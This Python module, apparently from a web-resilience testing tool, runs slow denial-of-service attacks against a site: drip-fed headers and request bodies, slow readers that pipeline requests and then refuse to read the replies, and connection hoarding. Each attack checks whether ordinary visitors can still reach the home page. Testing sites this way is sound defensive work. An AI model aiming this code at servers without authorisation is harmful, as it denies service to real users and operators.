"""The attacks by slowness: connections kept at no cost, by sending or taking next to nothing."""

from collections.abc import Callable, Sequence
from typing import Any

import gevent

from siaga.abuse import hoarding as hoard
from siaga.abuse import slow_heads as heads
from siaga.abuse import slow_readers as readers
from siaga.abuse.slow_heads import PATIENCE_S
from siaga.crowd.abuser import Abuser, Seen, needed, outcome
from siaga.crowd.attacks.places import place
from siaga.crowd.call import Call
from siaga.crowd.failure import Reason
from siaga.crowd.raw_attempt import dripping, exchanged_raw, head, raw_attempt
from siaga.crowd.raw_exchange import Heard, Speech

DRIP_EVERY_S = 1.0
DRIPS = 600
BODY_BYTES = 2_000
ASKED_BYTES = 16 * 1024 * 1024
"""More than the systems of both sides keep of what is not taken; a page has some kilobytes."""
LEAST_PAGE_BYTES, MOST_PAGES = 4 * 1024, 4_000
ROOM_BYTES = 4 * 1024
MERCY_S = 8.0
"""How much longer than it should a site may take to see that nothing is taken."""
HOME = Call(method="GET", path="/")


def slow_heads(me: Abuser) -> None:
    """Send heads that go on, a line a second."""

    def one() -> None:
        drops = dripping(head(me, "GET /"), lambda n: b"X-%d: drip\r\n" % n, DRIPS)
        speech = Speech(pieces=drops, pause_s=DRIP_EVERY_S)
        raw_attempt(me, "head", speech, more_s=PATIENCE_S)

    _beside(me, [one] * heads.CONNECTIONS)


def slow_bodies(me: Abuser) -> None:
    """Send the form of an account, a byte a second."""
    call = needed(me.surface.account)(me.person())
    kind, length = "Content-Type: application/json", f"Content-Length: {BODY_BYTES}"
    first = head(me, f"{call.method} {call.path}", kind, length) + b"\r\n{"

    def one() -> None:
        speech = Speech(pieces=dripping(first, lambda _n: b" ", DRIPS), pause_s=DRIP_EVERY_S)
        raw_attempt(me, "body", speech, more_s=PATIENCE_S)

    _beside(me, [one] * heads.CONNECTIONS)


def slow_readers(me: Abuser) -> None:
    """Ask for the home page over and over, take nothing for a while, and then see what is left."""
    page = me.do(me.browser(), HOME)
    pages = min(MOST_PAGES, ASKED_BYTES // max(LEAST_PAGE_BYTES, page.received_bytes))
    said = (head(me, "GET /") + b"\r\n") * pages

    def one() -> None:
        silence_s = PATIENCE_S + MERCY_S
        speech = Speech(pieces=[said], silence_s=silence_s, stays_s=me.limit_s, room_bytes=ROOM_BYTES)
        raw_attempt(me, "page", speech, more_s=silence_s, judged=_cut_off)

    _beside(me, [one] * readers.CONNECTIONS)


def hoarding(me: Abuser) -> None:
    """Open connections, ask nothing, and see whether anybody else is let in."""
    silent = Speech(pieces=(), source=place(me))
    _beside(me, [lambda: exchanged_raw(me, silent)] * hoard.CONNECTIONS, after_s=DRIP_EVERY_S)


def _beside(me: Abuser, held: Sequence[Callable[[], Any]], after_s: float = 0.0) -> None:
    """Do several things at once, and meanwhile ask for the home page as anybody would."""
    greenlets = [gevent.spawn(outcome, one) for one in held]
    try:
        me.sleep(after_s)
        while True:
            me.ask("aside", me.browser(), HOME)
            if not any(greenlets):
                break
            me.sleep(DRIP_EVERY_S)
        for one in greenlets:
            one.get()()
    finally:
        gevent.killall(greenlets)


def _cut_off(heard: Heard) -> Seen:
    """Tell whether the site has given up on whoever takes nothing: it goes on answering if not."""
    if heard.closed:
        return Seen(why=Reason.CLOSED.value)
    return Seen(why=Reason.TIMEOUT.value)
